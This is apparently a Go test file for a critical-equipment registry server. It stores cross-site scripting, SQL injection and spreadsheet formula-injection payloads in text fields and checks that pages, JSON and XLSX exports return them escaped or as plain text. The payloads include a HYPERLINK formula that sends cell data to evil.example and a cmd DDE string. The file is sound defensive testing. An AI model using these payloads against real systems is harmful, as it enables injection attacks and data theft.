package server_test

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"

	"github.com/labstack/echo/v4"
	"github.com/xuri/excelize/v2"

	"critreg/server"
)

// xssPayloads are the markup an attacker puts in a text field hoping a page or an export
// shows it unescaped.
var xssPayloads = []string{
	`<script>alert("xss")</script>`,
	`"><img src=x onerror=alert(1)>`,
	`</title><svg/onload=alert(1)>`,
	`javascript:alert(1)//<a href="x">`,
	`{{constructor.constructor('alert(1)')()}}`,
}

// sqlPayloads are strings that break a query built by concatenation.
var sqlPayloads = []string{
	`'; DROP TABLE items; --`,
	`" OR 1=1 --`,
	`x') UNION SELECT password_hash FROM users --`,
	`%' AND 1=1 AND '%'='`,
	`\'; DELETE FROM audit_log; --`,
}

var itemTextFields = []string{"name", "model", "version", "manufacturer", "distributor", "outsourcing_provider", "serial", "site", "notes"}

// rawMarkup reports whether an answer holds one of the payloads' markup unescaped, as a
// browser would run it. (A page's own script tags are not payloads.)
func rawMarkup(b []byte) bool {
	s := string(b)
	for _, m := range []string{`<script>alert`, `<img src=x`, `<svg/onload`, `<a href="x">`} {
		if strings.Contains(s, m) {
			return true
		}
	}
	return false
}

// TestHostileText stores attack strings in every text field of items, networks and
// operators: they come back byte for byte, escaped in every JSON answer, page and export,
// and the SQL ones do nothing but be stored.
func TestHostileText(t *testing.T) {
	e := newEnv(t)
	payloads := append(append([]string{}, xssPayloads...), sqlPayloads...)
	var ids []int64
	for i, p := range payloads {
		fields := map[string]any{"network_id": e.netA, "critical_part": "2.1", "kind": "equipment", "quantity": 1}
		for _, f := range itemTextFields {
			fields[f] = fmt.Sprintf("%s %d", p, i)
		}
		body, _ := json.Marshal(fields)
		var it map[string]any
		raw := e.do("alice", "POST", "/api/v1/items", string(body), 201, &it)
		if rawMarkup(raw) {
			t.Errorf("create item answered unescaped markup: %s", raw)
		}
		for _, f := range itemTextFields {
			if it[f] != fields[f] {
				t.Errorf("item %s = %q, stored %q: not verbatim", f, it[f], fields[f])
			}
		}
		ids = append(ids, int64(it["id"].(float64)))

		nb, _ := json.Marshal(map[string]any{"name": fmt.Sprintf("%s net %d", p, i), "technology": "4G"})
		raw = e.do("alice", "POST", "/api/v1/networks", string(nb), 201, nil)
		if rawMarkup(raw) {
			t.Errorf("create network answered unescaped markup: %s", raw)
		}
		ob, _ := json.Marshal(map[string]any{"code": fmt.Sprintf("OX%d", i), "name": p, "contact": p})
		raw = e.do("root", "POST", "/api/v1/operators", string(ob), 201, nil)
		if rawMarkup(raw) {
			t.Errorf("create operator answered unescaped markup: %s", raw)
		}
	}
	for i, id := range ids {
		var it map[string]any
		raw := e.do("alice", "GET", fmt.Sprintf("/api/v1/items/%d", id), "", 200, &it)
		if rawMarkup(raw) {
			t.Errorf("GET item answered unescaped markup: %s", raw)
		}
		if want := fmt.Sprintf("%s %d", payloads[i], i); it["notes"] != want {
			t.Errorf("item %d notes = %q, want %q", id, it["notes"], want)
		}
	}
	// The SQL strings are data: searching for them finds exactly their item, and the
	// tables they name are intact.
	for i, p := range sqlPayloads {
		var l struct{ Items []map[string]any }
		e.do("alice", "GET", "/api/v1/items?q="+url.QueryEscape(fmt.Sprintf("%s %d", p, len(xssPayloads)+i)), "", 200, &l)
		for _, it := range l.Items {
			if !strings.Contains(it["name"].(string), p) {
				t.Errorf("search for %q found %q", p, it["name"])
			}
		}
	}
	if n := e.count("items"); n != len(payloads) {
		t.Errorf("items = %d, want %d", n, len(payloads))
	}
	for _, path := range []string{"/api/v1/items?limit=100", "/api/v1/networks", "/api/v1/operators", "/api/v1/audit?limit=200", "/api/v1/suppliers?limit=100", "/api/v1/audit/export"} {
		login := "alice"
		if strings.Contains(path, "export") || strings.Contains(path, "operators") {
			login = "root"
		}
		if raw := e.do(login, "GET", path, "", 200, nil); rawMarkup(raw) {
			t.Errorf("GET %s answered unescaped markup: %.300s", path, raw)
		}
	}
	// Pages: every page route without parameters, as the web engineer adds them.
	ec := server.New(e.db, server.Config{}).Handler().(*echo.Echo)
	for _, r := range ec.Routes() {
		if r.Method != http.MethodGet || strings.HasPrefix(r.Path, "/api/") || strings.Contains(r.Path, ":") || strings.Contains(r.Path, "*") {
			continue
		}
		req, _ := http.NewRequest("GET", e.srv.URL+r.Path, nil)
		req.Header.Set("Accept", "text/html")
		req.Header.Set("Authorization", "Bearer "+e.tokens["alice"])
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		b, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		if strings.HasPrefix(resp.Header.Get("Content-Type"), "text/html") && rawMarkup(b) {
			t.Errorf("page %s shows unescaped markup", r.Path)
		}
	}
}

// TestExportNoFormulas: text that looks like a spreadsheet formula comes back in the
// workbook export as text, never as a formula a spreadsheet would run.
func TestExportNoFormulas(t *testing.T) {
	e := newEnv(t)
	payloads := []string{`=HYPERLINK("http://evil.example/?"&A1,"click")`, `+cmd|' /C calc'!A0`, `-2+3`, `@SUM(1+1)`, `=1+1`}
	for i, p := range payloads {
		body, _ := json.Marshal(map[string]any{"network_id": e.netA, "critical_part": "2.1", "kind": "equipment", "name": p, "notes": p, "serial": fmt.Sprintf("F%d", i)})
		e.do("alice", "POST", "/api/v1/items", string(body), 201, nil)
	}
	raw := e.do("alice", "GET", "/api/v1/operators/OPA/annex7.xlsx", "", 200, nil)
	wb, err := excelize.OpenReader(bytes.NewReader(raw))
	if err != nil {
		t.Fatal(err)
	}
	defer wb.Close()
	found := 0
	for _, sheet := range wb.GetSheetList() {
		rows, err := wb.GetRows(sheet)
		if err != nil {
			t.Fatal(err)
		}
		for r, row := range rows {
			for c, v := range row {
				cell, _ := excelize.CoordinatesToCellName(c+1, r+1)
				if f, _ := wb.GetCellFormula(sheet, cell); f != "" {
					t.Errorf("%s!%s holds the formula %q", sheet, cell, f)
				}
				if slices.Contains(payloads, v) {
					found++
				}
			}
		}
	}
	if found < len(payloads) {
		t.Errorf("found %d of the %d payloads as text in the export", found, len(payloads))
	}
}
